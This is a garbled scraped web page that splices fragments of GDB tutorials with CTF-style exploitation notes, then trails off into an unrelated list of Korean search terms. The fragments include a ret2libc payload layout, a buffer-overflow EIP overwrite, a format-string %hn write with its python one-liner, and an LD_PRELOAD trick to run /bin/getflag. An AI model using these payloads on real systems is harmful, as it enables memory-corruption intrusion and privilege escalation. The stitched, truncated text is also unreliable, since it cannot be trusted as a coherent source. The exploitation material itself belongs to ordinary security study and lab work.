0xf7f86c4c. Lets finish constructing our exploit string: (overflow) (<system>) (fake return address) ("/bin/sh" from libc)

How to point GDB to your sources There is no magic her

Useful GDB script for better visualization. Invocation inside GDB.Reflashing BMP back STLink v2 (possibly may work with v2.1). First flash the sllogiclogger.bin image onto Stellaris you'll use for measurement. Find the GDB manual and other documentation resources online at: <http.. In information security and programming, a buffer overflow, or buffer overrun, is an anomaly where a program, while writing data to a buffer, overruns the buffer’s boundary and overwrites adjacent memory locations. By continuing or stepping through you could have found that the issue is because we have not used the <= in the 'for loop' condition checking. So changing that from < to <= will solve the issue. gdb command shortcuts First of all, it’s 2017, let me introduce you to pwntools! There is no need to hardcode your exploit in an one-liner. (gdb) break main (gdb) run (gdb) print execlp $1 = {<text variable, no debug info>} 0x8053ab0 <execlp> (gdb) find&execlp,+999999999,"/bin/sh" 0x80cbf4f (gdb) print &null $3 = (<data variable, no debug info> *) 0x80c97a1 (gdb) x/s 0x80c97a1 0x80c97a1 <null>: "(null)" Alright, lets try it:

Video: bash - Putting some lines in a script to execute them in gdb - Ask Ubunt

Video: 8 gdb tricks you should know Oracle Linux Blo

int getrand(char **path) { char *tmp; int pid; int fd; srandom(time(NULL)); tmp = getenv("TEMP"); pid = getpid(); asprintf(path, "%s/%d.%c%c%c%c%c%c", tmp, pid, 'A' + (random() % 26), '0' + (random() % 10), 'a' + (random() % 26), 'A' + (random() % 26), '0' + (random() % 10), 'a' + (random() % 26)); fd = open(*path, O_CREAT|O_RDWR, 0600); unlink(*path); return fd; } If we see the above function, getpid figures out the PID of the program, unlink deletes the file and random provides a random number.To attach to an existing process, just use attach(). It is surprisingly versatile, and can attach to a process for simple binaries, or will automatically find the correct process to attach to for a forking server, if given a remote object.Now comes the return adress, this is what ret2libc makes ret2libc. fill in the adress of system which you obtained earlier. Let’s assume it’s 0xf7e503e0 so after the a’s will come: "\xe0\x03\xe5\xf7" This will make the function return into the start of the function system. (gdb) disas 0x32c4 0x32e4 Dump of assembler code from 0x32c4 to0x32e4: 0x32c4 <main+204>: addil 0,dp 0x32c8 <main+208>: ldw 0x22c(sr0,r1),r26 0x32cc <main+212>: ldil 0x3000,r31 0x32d0 <main+216>: ble 0x3f8(sr4,r31) 0x32d4 <main+220>: ldo 0(r31),rp 0x32d8 <main+224>: addil -0x800,dp 0x32dc <main+228>: ldo 0x588(r1),r26 0x32e0 <main+232>: ldil 0x3000,r31 End of assembler dump. Some architectures have more than one commonly-used set of instruction mnemonics or other syntax. To edit the lines in a source file, use the edit command. The editing program of your choice is invoked with the current line set to the active line in the program. Alternatively, there are several ways to specify what part of the file you want to print if you want to see other parts of the program.

Viewing Memory at any location¶

The gdb server binary, gdbserver, has now been installed in your ${TARGET_PREFIX}/bin directory. The dynamically linked gdbserver is 25 KB in size when stripped. Compared to gdb, the size of gdbserver is much more palatable Though I’m familiar with that exploitation technique, I feel like the post could be way more juicy to those who haven’t got around it if there were snippets of the PoC (i.e how the memory looks like right before the system()'s call and much more).

Why use GDB? • GDB can do four main kinds of things to help you catch bugs in the act: - Start your program, specifying anything that might affect its • From this information, you can find functions that, while they themselves may not have used much time, called other functions that did use unusual.. pico83515@shell:/home/format$ ./format %08x.%08x.%08x.%08x.%08x.%08x.%08x.%08x.%08x ffffd774.ffffd780.f7e4f39d.f7fc83c4.f7ffd000.0804852b.0804a030.08048520.00000000 We see that the address is present on the stack at the seventh position. Otherwise, we can put it on the stackby`python -c 'print "A"*20 + "\x90\x90\x90\x90" + "A"*12 + "BBBB"'` (gdb) x/30xw0xffffd89c 0xffffd89c: 0x41414141 0x41414141 0x41414141 0x41414141 0xffffd8ac: 0x41414141 0x90909090 0x41414141 0x41414141 0xffffd8bc: 0x41414141 0x42424242 0x47445800 0x5345535f When we used the below with the address, we were able to overwrite the RET by BBBB. Now, we control the EIP :)

>> ldd binary .... libc.so.6 => /lib/i386-linux-gnu/libc.so.6 (0xf7e0e000) ... >> strings -a -t x /lib/i386-linux-gnu/libc.so.6 | grep "/bin/sh" 18cd17 /bin/sh Meaning, /bin/sh is at libc_base + 0x18cd17 (on my system, that is). If you want to find libc’s base address, hop in gdb and type vmmap libc.TLDR: Before the current instruction is completely finished, EIP will be updated with its new value. Meaning, during the call instruction, you are pushing EIP indeed and NOT the address of the next instruction. So technically, saying “the address of the instruction after the call is pushed onto the stack” means that you will skip an instruction, which is not the case because EIP is already updated to the address of the next instruction during the call instruction.Search memory for the sequence of bytes specified by val1, val2, etc. The search begins at address start_addr and continues for either len bytes or through to end_addr inclusive. $ export LD_PRELOAD=`python -c 'print "/bin/getflag\x0a"*1000'` i.e. fill the stack with one thousand /bin/getflags. You need to have gdb on your system and Python debugging extensions. Extensions package includes debugging symbols and adds Python-specific commands into gdb. On a modern Linux system, you can easily install these wit

(gdb) disassemble main Dump of assembler code for function main: 0x08048588<+27>: call 0x8048410 <getpid@plt> 0x080485b3 <+70>: call 0x8048450 <sprintf@plt> 0x080485c7 <+90>: call 0x80486c0 <lstat> 0x080485df <+114>: call 0x8048400 <unlink@plt> 0x080485eb <+126>: call 0x8048420 <system@plt> 0x080485f7 <+138>: call 0x80483e0 <sleep@plt> 0x08048616 <+169>: call 0x8048420 <system@plt> 0x08048635 <+200>: leave 0x08048636 <+201>: ret If you check the ltrace output If /bin/sh specifies the Bourne shell, then the end result is that all of the shell commands in the file some/path/to/foo are executed with the positional Another theory on the sh in shebang is that it is from the default shell sh, usually invoked with shebang.[21] This usage was current by December.. We're sorry, but it appears our site is being held hostage. Don't worry, our supercoders are on the job and won't rest till it's back

Ctf hello,world!Knock knock who’s there… | Jelle Vergeer

That’s it for this topic! Unfortunately, I couldn’t provide a simpler example (other than the generic ones) but this is what cybersecurity is all about! Adapting, hacking and patching!If the target program runs with root privileges, then we make it very easy for the attacker to get root privileges. Although spawning the shell using "/bin/sh" drops privileges, using "/bin/sh -p" does not, so be very careful of the programs that run with root privileges on your system. This number is best kept minimum.Ok now the tricky part comes, remember how I was mumbling about the function expecting to have the return adress being pushed on the stack by the functon call? Well it didn’t, since we returned into the function rather than call the function!(gdb) run myfile.txt Then, outside of gdb you can rewrite the content of the file and run your program again and again in gdb.If HOB < LOB HOB:0x0804 LOB:0x8706 [addr+2][addr] = \x4e\xd6\xff\xff\x4c\xd6\xff\xff %.[HOB - 8]x = 0x804 - 8 = 7FC (2044) = %.2044x %[offset]$hn = %6\$hn %.[LOB - HOB]x = 0x8706 - 0x804 = 7F02(32514) = %.32514x %[offset+1]$hn = %7\$hn `python -c 'print "\x4e\xd6\xff\xff\x4c\xd6\xff\xff" +"%.2044x%6\$hn %.32514x%7\$hn"'` We also need to find the offset where the address is stored which can be done by two methods: Either compiling the program on local machine and checking the buffer just after snprintf Although it it sometimes possible to debug applications using GDB (The GNU Debugger) on the target boards, there is often not enough memory available to. If you are familiar with gdb and prefer to use the command line, you can use gdb for ARM. I'll use a build machine usingDebian Squeeze as an..

  • 제복 구매.
  • 류마티스 관절염 치료.
  • 물똥 원인.
  • Mgm movies.
  • 피겨스케이팅 점프.
  • 스칼렛위치 합성.
  • 미술 저작권.
  • 공유기 설치했는데 와이파이가 안되요.
  • 아기 예방 접종.
  • 크리스마스 역사.
  • 메이크업 모델 수지.
  • 론 위즐리 영화.
  • 트로피카나 서장훈.
  • 아무나 만나지 않는다 후기.
  • 호주 동양인 폭행.
  • 혹등고래 먹이.
  • 산화적 인산화 과정.
  • 발할라 가짜.
  • 13일의 금요일 웹툰 1화.
  • 곰 들의 춤.
  • 모니터 색온도 rgb.
  • 무서운만화 보기.
  • 예쁜 올림 머리.
  • Ccg 게임.
  • 흑태양 남경대학살.
  • 시나가와 프린스 호텔.
  • 입사 첫날 자기소개.
  • Millie bobby brown height.
  • 넓적부리황새 인사.
  • 전동 잔디 깍기.
  • 노트북 자판 이상.
  • 앨범 사진.
  • 앱스토어 카카오톡.
  • 정신건강연구소.
  • 시베리아 호랑이 코끼리.
  • 물방울 270cc.
  • 아이 클라우드사진 정렬.
  • 숙면베개 추천.
  • Twitter /< search.
  •Keeping up with the kardashians watch online.
  • 비장비대 기준.